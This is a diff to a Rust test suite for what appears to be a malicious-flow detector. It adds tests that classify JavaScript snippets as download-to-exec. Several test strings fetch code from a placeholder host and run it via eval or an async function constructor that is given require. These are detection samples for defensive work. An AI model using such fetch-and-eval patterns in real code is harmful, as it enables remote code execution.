@@ -103,6 +103,26 @@ fn downloads_reaching_exec_through_promises_and_files() {
 }
 
 #[test]
+fn an_awaited_response_read_in_one_expression_is_a_download() {
+    // The grammar reads `await (…)` as a call of a function named `await`.
+    for text in [
+        "(async () => {\n  const code = await (await fetch('https://x.example.invalid/p.js')).text();\n  eval(code);\n})();\n",
+        "const code = await (await fetch('https://x.example.invalid/p.js')).text();\neval(code);\n",
+    ] {
+        let found = js(text);
+        assert_eq!(found.len(), 1, "{text}\n{found:?}");
+        assert_eq!(found[0].0, FlowKind::DownloadToExec);
+    }
+    let ctor = js("const AF = Object.getPrototypeOf(async function () {}).constructor;\nfetch('https://x.example.invalid/b').then((r) => r.text()).then((src) => new AF('require', src)).then((f) => f(require));\n");
+    assert_eq!(ctor.len(), 1, "{ctor:?}");
+    assert_eq!(ctor[0].0, FlowKind::DownloadToExec);
+    let shape = js("const Proto = Object.getPrototypeOf(async function () {}).name;\nfetch('https://x.example.invalid/b').then((r) => r.text()).then((src) => new Proto(src));\n");
+    assert!(shape.is_empty(), "{shape:?}");
+    let local = js("const code = await (await import('./page.js')).render();\neval(code);\n");
+    assert!(local.is_empty(), "{local:?}");
+}
+
+#[test]
 fn parsed_json_and_hashed_downloads_are_not_code() {
     assert!(py("import requests, subprocess\ncfg = requests.get('https://x.example.invalid/c').json()\nsubprocess.run(['git', 'clone', cfg['repo']])\n").is_empty());
     let hashed = js("const crypto = require('crypto');\nconst fs = require('fs');\nasync function f(dest) {\n  const data = await (await fetch('https://x.example.invalid/b')).arrayBuffer();\n  const h = crypto.createHash('sha256').update(Buffer.from(data)).digest('hex');\n  fs.writeFileSync(dest, Buffer.from(data));\n  fs.chmodSync(dest, 0o755);\n}\n");
